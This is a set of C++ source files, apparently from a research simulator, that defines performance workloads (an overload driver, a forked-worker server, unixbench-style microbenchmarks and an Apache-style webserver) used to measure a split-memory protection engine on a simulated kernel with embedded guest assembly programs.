  kcfg.trace = prot.trace;
  kernel::Kernel k(kcfg);
  k.set_engine(prot.make_engine());

  const std::string equs =
      ".equ WORKERS, " + std::to_string(cfg.workers) +
      "\n.equ WORKBASE, " + std::to_string(cfg.work_base) +
      "\n.equ QDEPTH, " + std::to_string(cfg.qdepth) +
      "\n.equ BACKLOG, " + std::to_string(cfg.backlog) +
      "\n.equ DEADLINE, " + std::to_string(cfg.deadline) +
      "\n.equ RTIMEO, " + std::to_string(cfg.recv_timeout) +
      "\n.equ STIMEO, " + std::to_string(cfg.select_timeout) +
      "\n.equ MAXA, " + std::to_string(cfg.max_attempts) +
      "\n.equ BBASE, " + std::to_string(cfg.backoff_base) +
      "\n.equ JMASK, " + std::to_string(cfg.jitter_mask) + "\n.equ PORT, 1\n";
  const auto program = assembler::assemble(guest::program(equs + kOverloadBody));
  image::BuildOptions opts;
  opts.name = "overload";
  k.register_image(image::build_image(program, opts));

  const kernel::Pid master = k.spawn("overload");
  const auto chan = k.attach_channel(master);

  // The open-loop schedule, computed up front: (cycle, id) per arrival,
  // exponential inter-arrivals at the configured offered rate.
  const double mean_cycles = 1e6 / std::max(cfg.offered_rpmc, 1e-6);
  std::vector<std::pair<arch::u64, u32>> schedule;
  schedule.reserve(cfg.arrivals);
  arch::u64 prng = cfg.seed;
  double t = 0.0;
  for (u32 i = 0; i < cfg.arrivals; ++i) {
    const u32 id = static_cast<u32>(splitmix64(prng));
    t += -soft_ln(unit_open(splitmix64(prng))) * mean_cycles;
    schedule.emplace_back(static_cast<arch::u64>(t), id);
  }

  const auto drain_records = [&] {
    const std::vector<arch::u8> bytes = chan->host_read_all();
    for (std::size_t i = 0; i + 8 <= bytes.size(); i += 8) {
      const auto le32 = [&](std::size_t at) {
        return static_cast<u32>(bytes[at]) |
               static_cast<u32>(bytes[at + 1]) << 8 |
               static_cast<u32>(bytes[at + 2]) << 16 |
               static_cast<u32>(bytes[at + 3]) << 24;
      };
      const u32 tag = le32(i);
      const u32 value = le32(i + 4);
      switch (tag) {
        case 0:
          out.latency.record(value);
          ++out.completed;
          break;
        case 1:
          ++out.shed_queue;
          break;
        case 2:
          ++out.shed_deadline;
          break;
        case 3:
          ++out.worker_drops;
          break;
        case 4:
          ++out.retries;
          break;
        case 5:
          ++out.lost_responses;
          break;
        default:
          break;
      }
    }
  };

  // Run with a cycle bound at the next scheduled arrival, so deliveries
  // land at their exact simulated times regardless of how busy or idle
  // the machine is. The cycle cap keeps u32 SYS_TIME stamps far from
  // wraparound; the round cap is a wedge backstop.
  constexpr arch::u64 kBudget = 50'000'000;
  constexpr arch::u64 kMaxRounds = 100'000;
  constexpr arch::u64 kCycleCap = 3'500'000'000;
  std::size_t next = 0;
  bool closed = false;
  bool wedged = false;
  for (arch::u64 round = 0;; ++round) {
    if (round >= kMaxRounds || k.stats().cycles > kCycleCap) {
      wedged = true;
      break;
    }
    const arch::u64 now = k.stats().cycles;
    if (next < schedule.size() && schedule[next].first <= now) {
      std::vector<arch::u8> batch;
      while (next < schedule.size() && schedule[next].first <= now) {
        const u32 id = schedule[next].second;
        const u32 stamp = static_cast<u32>(schedule[next].first);
        for (const u32 w : {id, stamp}) {
          batch.push_back(static_cast<arch::u8>(w));
          batch.push_back(static_cast<arch::u8>(w >> 8));
          batch.push_back(static_cast<arch::u8>(w >> 16));
          batch.push_back(static_cast<arch::u8>(w >> 24));
        }
        ++next;
        ++out.arrivals_issued;
      }
      chan->host_write(batch);
    }
    if (next == schedule.size() && !closed) {
      chan->host_close();
      closed = true;
    }
    const arch::u64 stop =
        next < schedule.size() ? schedule[next].first : 0;
    const auto rr = k.run(kBudget, stop);
    drain_records();
    if (rr == kernel::Kernel::RunResult::kAllExited) break;
    if (rr == kernel::Kernel::RunResult::kAllBlocked) {
      // Nothing runnable and no armed timer. Waiting on a future arrival:
      // jump virtual time forward to it. After the stream closed this is
      // a wedge — the master should have drained and exited.
      if (next < schedule.size()) {
        k.advance_idle_time(schedule[next].first);
      } else {
        wedged = true;
        break;
      }
    }
  }

  out.base.cycles = k.stats().cycles;
  out.base.sim_time = out.base.cycles;
  out.base.stats = k.stats();
  if (auto* sink = k.trace_sink()) {
    out.base.trace_summary =
        std::make_shared<trace::ProfileSummary>(sink->summary());
  }
  out.base.completed = !wedged && closed && k.all_exited() &&
                       out.arrivals_issued == cfg.arrivals;
  if (out.base.cycles != 0) {
    out.goodput_rpmc = static_cast<double>(out.completed) * 1e6 /
                       static_cast<double>(out.base.cycles);
    out.base.throughput = out.goodput_rpmc;
  }
  return out;
}

}  // namespace sm::workloads
