// High-traffic server workload: an event-driven master in front of a
// forked worker pool, driven by a seeded request stream from the host.
//
// Topology (all fd numbers are as the guest sees them):
//
//   host --channel(fd 0)--> master --request pipe (wr fd 3)--> workers (rd fd 2)
//   host <--channel(fd 0)-- master <--response pipe (rd fd 4)-- workers (wr fd 5)
//
// The master multiplexes {response pipe, channel} with select2 (responses
// first, so the window drains before it grows), stamps each request with
// SYS_TIME on the way in, and reports `now - stamp` per response back to
// the host as a 4-byte latency record. Workers loop read(8) -> service
// -> write(12); service length varies with the request id's low bits so
// the latency distribution has a real tail.
//
// Framing: the request stream is 4-byte records on the channel, 8-byte
// records in the request pipe, 12-byte records in the response pipe. The
// closed-loop window keeps at most `window` requests in flight, so no
// pipe ever holds more than window*12 bytes and every guest write below
// the 64 KiB pipe capacity completes whole — reads therefore always
// return whole records and no read-exact loops are needed.
#include "workloads/internal.h"
#include "workloads/workload.h"

namespace sm::workloads {

namespace {

// .equ WORKERS/WINDOW/WORKBASE are prepended per config.
const char* kServerBody = R"(
_start:
  movi r0, SYS_PIPE        ; request pipe: rd=2, wr=3
  movi r1, reqfds
  syscall
  movi r0, SYS_PIPE        ; response pipe: rd=4, wr=5
  movi r1, respfds
  syscall
  movi r5, WORKERS
m_spawn:
  movi r0, SYS_FORK
  syscall
  cmpi r0, 0
  jz worker
  addi r5, -1
  cmpi r5, 0
  jnz m_spawn
  movi r5, 0               ; r5 = requests in flight
m_loop:
  cmpi r5, WINDOW          ; window full: only a response can make progress
  jae m_resp
  movi r0, SYS_SELECT2     ; select2(response pipe, channel) — responses
  movi r1, 4               ; have priority so the window drains first
  movi r2, 0
  syscall
  cmpi r0, 0
  jz m_resp
  movi r0, SYS_READ        ; channel readable (or EOF): next request id
  movi r1, 0
  movi r2, chbuf
  movi r3, 4
  syscall
  cmpi r0, 0
  jz m_drain               ; EOF: the stream is done, drain the window
  movi r4, chbuf           ; forward {id, SYS_TIME} into the request pipe
  load r1, [r4]
  movi r4, reqrec
  store [r4], r1
  movi r0, SYS_TIME
  syscall
  movi r4, reqrec
  store [r4+4], r0
  movi r0, SYS_WRITE
  movi r1, 3
  movi r2, reqrec
  movi r3, 8
  syscall
  addi r5, 1
  jmp m_loop
m_resp:
  call handle_resp
  jmp m_loop
m_drain:
  cmpi r5, 0
  jz m_shutdown
  call handle_resp
  jmp m_drain
m_shutdown:
  movi r0, SYS_CLOSE       ; drop the last request-pipe write end: EOF
  movi r1, 3               ; fans out to every blocked worker
  syscall
  movi r0, SYS_EXIT
  movi r1, 0
  syscall

; reads one 12-byte response, reports the 4-byte latency to the host.
; Clobbers r0-r4; decrements r5 (in flight).
handle_resp:
  movi r0, SYS_READ
  movi r1, 4
  movi r2, respbuf
  movi r3, 12
  syscall
  movi r0, SYS_TIME
  syscall
  movi r4, respbuf
  load r1, [r4+4]          ; the stamp the master wrote at admission
  sub r0, r1               ; u32 wraparound subtraction
  movi r4, latbuf
  store [r4], r0
  movi r0, SYS_WRITE
  movi r1, 0
  movi r2, latbuf
  movi r3, 4
  syscall
  addi r5, -1
  ret

worker:
  movi r0, SYS_CLOSE       ; drop the master-side ends so EOF/EPIPE track
  movi r1, 3               ; the master alone
  syscall
  movi r0, SYS_CLOSE
  movi r1, 4
  syscall
w_loop:
  movi r0, SYS_READ        ; one whole 8-byte request (0 = EOF, retire)
  movi r1, 2
  movi r2, wreq
  movi r3, 8
  syscall
  cmpi r0, 0
  jz w_exit
  movi r4, wreq            ; service time = WORKBASE + (id & 63) * 8
  load r2, [r4]            ; r2 = working value seeded from the id
  mov r3, r2
  movi r1, 63
  and r3, r1
  movi r1, 8
  mul r3, r1
  addi r3, WORKBASE
  movi r1, 0               ; r1 = checksum
w_work:
  movi r0, 1103515245      ; LCG step + a data-page touch per iteration
  mul r2, r0
  addi r2, 12345
  mov r0, r2
  movi r4, 0x1FFF
  and r0, r4
  addi r0, wbuf
  loadb r4, [r0]
  add r1, r4
  storeb [r0], r1
  addi r3, -1
  cmpi r3, 0
  jnz w_work
  movi r4, wreq            ; response = {id, stamp, checksum}
  load r0, [r4]
  movi r4, wresp
  store [r4], r0
  movi r4, wreq
  load r0, [r4+4]
  movi r4, wresp
  store [r4+4], r0
  store [r4+8], r1
  movi r0, SYS_WRITE
  movi r1, 5
  movi r2, wresp
  movi r3, 12
  syscall
  jmp w_loop
w_exit:
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
.bss
reqfds:  .space 8
respfds: .space 8
chbuf:   .space 4
reqrec:  .space 8
respbuf: .space 12
latbuf:  .space 4
wreq:    .space 8
wresp:   .space 12
wbuf:    .space 8192
)";

arch::u64 splitmix64(arch::u64& s) {
  s += 0x9E3779B97F4A7C15ull;
  arch::u64 z = s;
  z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull;
  z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
  return z ^ (z >> 31);
}

}  // namespace

ServerLoadResult run_server_load(const Protection& prot,
                                 const ServerLoadConfig& cfg) {
  ServerLoadResult out;
  out.base.name = "server-" + std::to_string(cfg.workers) + "w";

  kernel::KernelConfig kcfg;
  kcfg.phys_frames = cfg.phys_frames;
  kcfg.cores = cfg.cores == 0 ? 1 : cfg.cores;
  kcfg.cost = cfg.cost;
  kcfg.software_tlb = prot.software_tlb;
  kcfg.trace = prot.trace;
  kernel::Kernel k(kcfg);
  k.set_engine(prot.make_engine());

  const std::string equs = ".equ WORKERS, " + std::to_string(cfg.workers) +
                           "\n.equ WINDOW, " + std::to_string(cfg.window) +
                           "\n.equ WORKBASE, " + std::to_string(cfg.work_base) +
                           "\n";
  const auto program = assembler::assemble(guest::program(equs + kServerBody));
  image::BuildOptions opts;
  opts.name = "server";
  k.register_image(image::build_image(program, opts));

  const kernel::Pid master = k.spawn("server");
  const auto chan = k.attach_channel(master);

  constexpr arch::u64 kBudget = 4'000'000'000;
  arch::u64 prng = cfg.seed;
  u32 issued = 0;
  u32 stuck_rounds = 0;
  bool ok = true;
  const auto drain_latencies = [&] {
    const std::vector<arch::u8> bytes = chan->host_read_all();
    for (std::size_t i = 0; i + 4 <= bytes.size(); i += 4) {
      const u32 lat = static_cast<u32>(bytes[i]) |
                      static_cast<u32>(bytes[i + 1]) << 8 |
                      static_cast<u32>(bytes[i + 2]) << 16 |
                      static_cast<u32>(bytes[i + 3]) << 24;
      out.latency.record(lat);
      ++out.requests_completed;
    }
    return bytes.size() / 4;
  };

  while (ok && out.requests_completed < cfg.requests) {
    // Refill the closed-loop window with the next seeded request ids.
    const u32 in_flight = issued - static_cast<u32>(out.requests_completed);
    const u32 credit =
        std::min(cfg.window - in_flight, cfg.requests - issued);
    if (credit > 0) {
      std::vector<arch::u8> batch;
      batch.reserve(credit * 4u);
      for (u32 i = 0; i < credit; ++i) {
        const u32 id = static_cast<u32>(splitmix64(prng));
        batch.push_back(static_cast<arch::u8>(id));
        batch.push_back(static_cast<arch::u8>(id >> 8));
        batch.push_back(static_cast<arch::u8>(id >> 16));
        batch.push_back(static_cast<arch::u8>(id >> 24));
      }
      chan->host_write(batch);
      issued += credit;
    }
    const auto rr = k.run(kBudget);
    const std::size_t got = drain_latencies();
    if (rr == kernel::Kernel::RunResult::kAllExited) break;
    // A blocked kernel with no completions and nothing left to issue is a
    // wedge (it cannot happen if the wakeup protocol is right).
    if (got == 0 && credit == 0) {
      if (++stuck_rounds >= 3) ok = false;
    } else {
      stuck_rounds = 0;
    }
  }

  // End of stream: EOF ripples master -> request pipe -> workers.
  chan->host_close();
  k.run(kBudget);
  drain_latencies();

  out.base.cycles = k.stats().cycles;
  out.base.sim_time = out.base.cycles;
  out.base.stats = k.stats();
  if (auto* sink = k.trace_sink()) {
    out.base.trace_summary =
        std::make_shared<trace::ProfileSummary>(sink->summary());
  }
  out.base.completed =
      ok && out.requests_completed == cfg.requests && k.all_exited();
  if (out.base.cycles != 0) {
    out.requests_per_mcycle = static_cast<double>(out.requests_completed) *
                              1e6 / static_cast<double>(out.base.cycles);
    out.base.throughput = out.requests_per_mcycle;
  }
  return out;
}

}  // namespace sm::workloads
