// Unixbench-style microbenchmarks (paper Fig. 6 "Unixbench" bar, and the
// "pipe-based context switching" stressor of Figs. 7 and 9).
#include <cmath>

#include "workloads/internal.h"
#include "workloads/workload.h"

namespace sm::workloads {

namespace {

std::string with_iters(u32 iters, const std::string& body) {
  return ".equ ITERS, " + std::to_string(iters) + "\n" + body;
}

const char* kSyscallBody = R"(
_start:
  movi r5, ITERS
sc_loop:
  movi r0, SYS_GETPID
  syscall
  addi r5, -1
  cmpi r5, 0
  jnz sc_loop
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
)";

const char* kArithmeticBody = R"(
_start:
  movi r5, ITERS
  movi r1, 7
ar_loop:
  mov r2, r1
  movi r3, 31337
  mul r2, r3
  addi r2, 11
  movi r3, 127
  div r2, r3
  add r1, r2
  mov r2, r1
  movi r3, 3
  shl r2, r3
  xor r1, r2
  addi r5, -1
  cmpi r5, 0
  jnz ar_loop
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
)";

// Whetstone-style: emulated floating-point arithmetic (Lehmer generator
// mantissa operations), pure register pressure.
const char* kWhetstoneBody = R"(
_start:
  movi r5, ITERS
  movi r1, 0x40490FDB     ; "pi" bits as the working value
wh_loop:
  mov r2, r1
  movi r3, 16807          ; Lehmer multiplier
  mul r2, r3
  movi r3, 2147483647
  modu r2, r3
  mov r3, r2
  movi r4, 1023
  and r3, r4
  addi r3, 1
  div r2, r3              ; emulated mantissa divide
  xor r1, r2
  mov r2, r1
  movi r3, 7
  shr r2, r3
  add r1, r2
  addi r5, -1
  cmpi r5, 0
  jnz wh_loop
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
)";

const char* kFileReadBody = R"(
_start:
fr_outer:
  movi r0, SYS_OPEN
  movi r1, path
  movi r2, O_READ
  syscall
  mov r5, r0
fr_loop:
  movi r0, SYS_READ
  mov r1, r5
  movi r2, block
  movi r3, 1024
  syscall
  cmpi r0, 0
  jnz fr_loop
  movi r0, SYS_CLOSE
  mov r1, r5
  syscall
  movi r4, count
  load r5, [r4]
  addi r5, 1
  store [r4], r5
  cmpi r5, ITERS
  jnz fr_outer
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
.data
path: .asciz "ub_srcfile"
count: .word 0
.bss
block: .space 1024
)";

// Single-process pipe throughput: 512 bytes down and back per iteration.
const char* kPipeThroughputBody = R"(
_start:
  movi r0, SYS_PIPE
  movi r1, fds
  syscall
  movi r5, ITERS
pt_loop:
  movi r0, SYS_WRITE
  movi r4, fds
  load r1, [r4+4]
  movi r2, block
  movi r3, 512
  syscall
  movi r0, SYS_READ
  movi r4, fds
  load r1, [r4]
  movi r2, block
  movi r3, 512
  syscall
  addi r5, -1
  cmpi r5, 0
  jnz pt_loop
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
.bss
fds: .space 8
block: .space 512
)";

// Two processes ping-pong a token through two pipes: every iteration is
// two forced context switches, each flushing both TLBs — the paper's
// worst case.
const char* kPipeCtxSwitchBody = R"(
_start:
  movi r0, SYS_PIPE
  movi r1, fds1
  syscall
  movi r0, SYS_PIPE
  movi r1, fds2
  syscall
  movi r0, SYS_FORK
  syscall
  cmpi r0, 0
  jz px_child
  mov r5, r0               ; child pid
  movi r4, ITERS
px_parent_loop:
  movi r0, SYS_WRITE
  push r4
  movi r4, fds1
  load r1, [r4+4]
  movi r2, token
  movi r3, 4
  syscall
  movi r0, SYS_READ
  movi r4, fds2
  load r1, [r4]
  movi r2, token
  movi r3, 4
  syscall
  pop r4
  addi r4, -1
  cmpi r4, 0
  jnz px_parent_loop
  movi r0, SYS_WAITPID
  mov r1, r5
  syscall
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
px_child:
  movi r4, ITERS
px_child_loop:
  movi r0, SYS_READ
  push r4
  movi r4, fds1
  load r1, [r4]
  movi r2, token2
  movi r3, 4
  syscall
  movi r0, SYS_WRITE
  movi r4, fds2
  load r1, [r4+4]
  movi r2, token2
  movi r3, 4
  syscall
  pop r4
  addi r4, -1
  cmpi r4, 0
  jnz px_child_loop
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
.data
token:  .word 0x12345678
token2: .word 0
.bss
fds1: .space 8
fds2: .space 8
)";

const char* kProcessCreationBody = R"(
_start:
  movi r5, ITERS
pc_loop:
  movi r0, SYS_FORK
  syscall
  cmpi r0, 0
  jnz pc_parent
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
pc_parent:
  mov r1, r0
  movi r0, SYS_WAITPID
  syscall
  addi r5, -1
  cmpi r5, 0
  jnz pc_loop
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
)";

const char* kExeclBody = R"(
_start:
  movi r5, ITERS
ex_loop:
  movi r0, SYS_FORK
  syscall
  cmpi r0, 0
  jnz ex_parent
  movi r0, SYS_EXEC
  movi r1, noop_path
  syscall
  movi r0, SYS_EXIT      ; only reached if exec failed
  movi r1, 9
  syscall
ex_parent:
  mov r1, r0
  movi r0, SYS_WAITPID
  syscall
  addi r5, -1
  cmpi r5, 0
  jnz ex_loop
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
.data
noop_path: .asciz "noop"
)";

const char* kFilesystemBody = R"(
_start:
  movi r5, ITERS
fs_loop:
  ; write 16 KiB in 1 KiB chunks
  movi r0, SYS_OPEN
  movi r1, path
  movi r2, O_WRITE
  syscall
  mov r4, r0
  movi r3, 16
fs_wr:
  push r3
  movi r0, SYS_WRITE
  mov r1, r4
  movi r2, block
  movi r3, 1024
  syscall
  pop r3
  addi r3, -1
  cmpi r3, 0
  jnz fs_wr
  movi r0, SYS_CLOSE
  mov r1, r4
  syscall
  ; read it back
  movi r0, SYS_OPEN
  movi r1, path
  movi r2, O_READ
  syscall
  mov r4, r0
fs_rd:
  movi r0, SYS_READ
  mov r1, r4
  movi r2, block
  movi r3, 1024
  syscall
  cmpi r0, 0
  jnz fs_rd
  movi r0, SYS_CLOSE
  mov r1, r4
  syscall
  addi r5, -1
  cmpi r5, 0
  jnz fs_loop
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
.data
path: .asciz "ub_tmpfile"
.bss
block: .space 1024
)";

struct BenchSpec {
  const char* body;
  u32 default_iters;
  double units;  // work units per iteration for throughput
};

BenchSpec spec_of(UnixBench b) {
  switch (b) {
    case UnixBench::kSyscall:
      return {kSyscallBody, 20000, 1};
    case UnixBench::kArithmetic:
      return {kArithmeticBody, 50000, 1};
    case UnixBench::kWhetstone:
      return {kWhetstoneBody, 40000, 1};
    case UnixBench::kFileRead:
      return {kFileReadBody, 40, 64 * 1024};
    case UnixBench::kPipeThroughput:
      return {kPipeThroughputBody, 2000, 512};
    case UnixBench::kPipeContextSwitch:
      return {kPipeCtxSwitchBody, 1500, 2};
    case UnixBench::kProcessCreation:
      return {kProcessCreationBody, 150, 1};
    case UnixBench::kExecl:
      return {kExeclBody, 100, 1};
    case UnixBench::kFilesystem:
      return {kFilesystemBody, 60, 32 * 1024};
  }
  return {kSyscallBody, 1000, 1};
}

}  // namespace

const char* to_string(UnixBench b) {
  switch (b) {
    case UnixBench::kSyscall:
      return "syscall";
    case UnixBench::kArithmetic:
      return "arithmetic";
    case UnixBench::kWhetstone:
      return "whetstone";
    case UnixBench::kFileRead:
      return "file-read";
    case UnixBench::kPipeThroughput:
      return "pipe-throughput";
    case UnixBench::kPipeContextSwitch:
      return "pipe-ctxsw";
    case UnixBench::kProcessCreation:
      return "process-creation";
    case UnixBench::kExecl:
      return "execl";
    case UnixBench::kFilesystem:
      return "filesystem";
  }
  return "?";
}

WorkloadResult run_unixbench(UnixBench bench, const Protection& prot,
                             u32 iterations) {
  const BenchSpec spec = spec_of(bench);
  const u32 iters = iterations != 0 ? iterations : spec.default_iters;
  const auto setup = [&](kernel::Kernel& k) {
    if (bench == UnixBench::kFileRead) {
      k.fs().put("ub_srcfile", std::vector<arch::u8>(64 * 1024, 0x42));
    }
    if (bench == UnixBench::kExecl) {
      const auto noop = assembler::assemble(guest::program(R"(
_start:
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
)"));
      image::BuildOptions opts;
      opts.name = "noop";
      k.register_image(image::build_image(noop, opts));
    }
  };
  WorkloadResult res = internal::run_program(
      to_string(bench), with_iters(iters, spec.body), prot, {},
      /*budget=*/4'000'000'000, setup);
  if (res.cycles != 0) {
    res.throughput = spec.units * iters * 1e6 / res.cycles;
  }
  return res;
}

double unixbench_index(const Protection& prot) {
  double log_sum = 0;
  int n = 0;
  for (const UnixBench b : kAllUnixBench) {
    const WorkloadResult base = run_unixbench(b, Protection::none());
    const WorkloadResult prot_r = run_unixbench(b, prot);
    const double ratio = normalized(base, prot_r);
    if (ratio > 0) {
      log_sum += std::log(ratio);
      ++n;
    }
  }
  return n == 0 ? 0 : std::exp(log_sum / n);
}

}  // namespace sm::workloads
