// Apache-style webserver + ApacheBench-style driver (paper Figs. 6, 7, 8).
//
// N worker processes each serve requests from their own connection. The
// driver hands every worker one request per round; a worker finishing a
// response blocks on the next read, forcing a context switch (and the
// CR3-reload TLB flush that makes this the split-memory worst case at
// small response sizes). A network model caps throughput at the link rate
// so large responses saturate the wire and hide CPU overhead, reproducing
// the recovery in Fig. 8.
#include "workloads/internal.h"
#include "workloads/workload.h"

namespace sm::workloads {

namespace {

const char* kWorkerBody = R"(
_start:
w_loop:
  movi r1, FD_NET
  movi r2, reqbuf
  movi r3, 256
  call read_line
  cmpi r0, 0
  jz w_exit
  ; "GET <path>": the path starts at offset 4
  movi r0, SYS_OPEN
  movi r1, reqbuf+4
  movi r2, O_READ
  syscall
  cmpi r0, -1
  jz w_404
  mov r5, r0
w_send:
  movi r0, SYS_READ
  mov r1, r5
  movi r2, iobuf
  movi r3, 1024
  syscall
  cmpi r0, 0
  jz w_close
  ; the server touches every byte it serves (header scan / checksum)
  mov r4, r0
  movi r2, iobuf
  movi r3, 0
w_sum:
  loadb r1, [r2]
  add r3, r1
  addi r2, 1
  addi r4, -1
  cmpi r4, 0
  jnz w_sum
  mov r3, r0
  movi r0, SYS_WRITE
  movi r1, FD_NET
  movi r2, iobuf
  syscall
  jmp w_send
w_close:
  movi r0, SYS_CLOSE
  mov r1, r5
  syscall
  ; access-log append: one record in each 4 KiB log page (Apache keeps
  ; several per-request structures warm; they all refault after a context
  ; switch under split memory)
  movi r4, logptr
  load r1, [r4]
  movi r2, 0
w_log:
  mov r3, r1
  addi r3, logbuf
  store [r3], r0
  addi r3, 4096
  store [r3], r0
  addi r3, 4096
  store [r3], r0
  addi r3, 4096
  store [r3], r0
  addi r3, 4096
  store [r3], r0
  addi r3, 4096
  store [r3], r0
  addi r3, 4096
  store [r3], r0
  addi r3, 4096
  store [r3], r0
  addi r1, 64
  movi r3, 4095
  and r1, r3
  addi r2, 1
  cmpi r2, 1
  jnz w_log
  movi r4, logptr
  store [r4], r1
  jmp w_loop
w_404:
  movi r1, FD_NET
  movi r2, msg404
  call print_fd
  jmp w_loop
w_exit:
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
.data
msg404: .asciz "404 not found\n"
logptr: .word 0
.bss
reqbuf: .space 260
iobuf:  .space 1024
logbuf: .space 32768
)";

}  // namespace

WebserverResult run_webserver(const Protection& prot,
                              const WebserverConfig& cfg) {
  WebserverResult out;
  out.base.name = "webserver-" + std::to_string(cfg.response_bytes / 1024) +
                  "KB";

  kernel::KernelConfig kcfg;
  kcfg.cost = cfg.cost;
  kcfg.software_tlb = prot.software_tlb;
  kcfg.cores = 1;  // Figs. 6-8 are single-core; SMP serving is server_load's
  kernel::Kernel k(kcfg);
  k.set_engine(prot.make_engine());

  const auto program = assembler::assemble(guest::program(kWorkerBody));
  image::BuildOptions opts;
  opts.name = "httpd";
  k.register_image(image::build_image(program, opts));

  // The document being served.
  std::vector<arch::u8> page(cfg.response_bytes);
  for (std::size_t i = 0; i < page.size(); ++i) {
    page[i] = static_cast<arch::u8>('A' + i % 61);
  }
  k.fs().put("page", page);

  std::vector<kernel::Pid> pids;
  std::vector<std::shared_ptr<kernel::Channel>> chans;
  for (u32 w = 0; w < cfg.workers; ++w) {
    const kernel::Pid pid = k.spawn("httpd");
    pids.push_back(pid);
    chans.push_back(k.attach_channel(pid));
  }

  const u32 rounds = (cfg.requests + cfg.workers - 1) / cfg.workers;
  u32 issued = 0;
  bool ok = true;
  for (u32 r = 0; r < rounds && ok; ++r) {
    u32 this_round = 0;
    for (u32 w = 0; w < cfg.workers && issued < cfg.requests; ++w) {
      chans[w]->host_write(std::string("GET page\n"));
      ++issued;
      ++this_round;
    }
    // Serve the round: run until every worker is blocked on its next read.
    const auto rr = k.run(4'000'000'000);
    if (rr != kernel::Kernel::RunResult::kAllBlocked) ok = false;
    for (u32 w = 0; w < this_round; ++w) {
      out.bytes_served += chans[w]->host_read_all().size();
    }
  }
  // Hang up: workers see EOF and exit.
  for (auto& c : chans) c->host_close();
  k.run(1'000'000'000);

  out.base.cycles = k.stats().cycles;
  out.base.stats = k.stats();
  out.base.completed =
      ok && out.bytes_served >=
                static_cast<u64>(cfg.requests) * cfg.response_bytes;

  // Network model: the link drains at net_bytes_per_cycle with a fixed
  // per-request latency; wall-clock is whichever of CPU or wire is slower.
  const double net_time =
      static_cast<double>(out.bytes_served) / cfg.cost.net_bytes_per_cycle +
      static_cast<double>(cfg.requests) * cfg.cost.net_request_latency;
  out.base.sim_time = std::max<u64>(out.base.cycles,
                                    static_cast<u64>(net_time));
  if (out.base.sim_time != 0) {
    out.requests_per_mcycle =
        static_cast<double>(cfg.requests) * 1e6 / out.base.sim_time;
    out.base.throughput = out.requests_per_mcycle;
  }
  return out;
}

}  // namespace sm::workloads
