// Performance workloads reproducing the paper's evaluation programs
// (§6.2): an Apache-style webserver driven by an ApacheBench-style client,
// a gzip-style compressor, nbench-style compute kernels, and a
// unixbench-style microbenchmark suite (including the pipe-based
// context-switching stressor of Figs. 7 and 9).
//
// Every workload runs the same guest program under a configurable
// protection engine and reports simulated cycles; figures are ratios of
// protected to unprotected runs (normalized performance).
#pragma once

#include <functional>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "core/split_engine.h"
#include "kernel/kernel.h"
#include "metrics/latency_histogram.h"
#include "metrics/stats.h"
#include "trace/profiler.h"

namespace sm::workloads {

using arch::u32;
using arch::u64;

// How a run is protected: either one of the standard modes or a custom
// split fraction (Fig. 9).
struct Protection {
  core::ProtectionMode mode = core::ProtectionMode::kNone;
  // When set (0-100), overrides mode with SplitMemoryEngine(fraction).
  std::optional<u32> split_fraction;
  u32 fraction_seed = 0;
  // SPARC-style software-managed TLBs (paper SS4.7 portability study).
  bool software_tlb = false;
  // I-TLB load method for the split engine (paper SS4.2.4 side note).
  core::ItlbLoadMethod itlb_method = core::ItlbLoadMethod::kSingleStep;
  // Record a cycle-attribution trace of the run (KernelConfig::trace);
  // the result then carries WorkloadResult::trace_summary. Observation
  // only — simulated figures are bit-identical either way.
  bool trace = false;

  static Protection none() { return {}; }
  static Protection split_all() {
    Protection p;
    p.mode = core::ProtectionMode::kSplitAll;
    return p;
  }
  static Protection fraction(u32 percent, u32 seed = 0) {
    Protection p;
    p.mode = core::ProtectionMode::kSplitAll;
    p.split_fraction = percent;
    p.fraction_seed = seed;
    return p;
  }
  Protection with_software_tlb() const {
    Protection p = *this;
    p.software_tlb = true;
    return p;
  }
  Protection with_trace() const {
    Protection p = *this;
    p.trace = true;
    return p;
  }

  std::unique_ptr<kernel::ProtectionEngine> make_engine() const;
  std::string label() const;
};

struct WorkloadResult {
  std::string name;
  u64 cycles = 0;          // simulated CPU cycles
  u64 sim_time = 0;        // cycles incl. the network/IO model (webserver)
  double throughput = 0;   // work units per mega-cycle (workload-specific)
  metrics::Stats stats;
  bool completed = false;
  // Cycle-attribution profile; populated only when the run was traced
  // (KernelConfig::trace) and tracing is compiled in.
  std::shared_ptr<trace::ProfileSummary> trace_summary;
};

// Normalized performance of `protected_r` relative to `baseline`
// (the paper's y-axis: 1.0 = full speed).
double normalized(const WorkloadResult& baseline,
                  const WorkloadResult& protected_r);

// --- compute workloads -------------------------------------------------

// gzip-style compressor: LCG-filled input, hash + literal/run encoding,
// two passes (compress + verify), streaming working set of `kilobytes`.
WorkloadResult run_gzip(const Protection& prot, u32 kilobytes = 512);

// nbench-style kernels: numeric sort, string sort, bitfield ops, integer
// arithmetic emulation. Small working sets, computation bound.
WorkloadResult run_nbench(const Protection& prot, u32 scale = 1);

// --- unixbench-style suite ----------------------------------------------

enum class UnixBench {
  kSyscall,       // getpid loop
  kArithmetic,    // dhrystone-style register arithmetic
  kWhetstone,     // floating-point-emulation arithmetic (mul/div/mod mix)
  kPipeThroughput,  // single-process pipe write/read
  kPipeContextSwitch,  // two processes ping-pong over two pipes (Fig. 7)
  kProcessCreation,    // fork + exit + waitpid
  kExecl,         // fork + exec + waitpid
  kFilesystem,    // file write/rewind/read loop ("file copy")
  kFileRead,      // read-only streaming over a preloaded file
};
inline constexpr UnixBench kAllUnixBench[] = {
    UnixBench::kSyscall,        UnixBench::kArithmetic,
    UnixBench::kWhetstone,      UnixBench::kPipeThroughput,
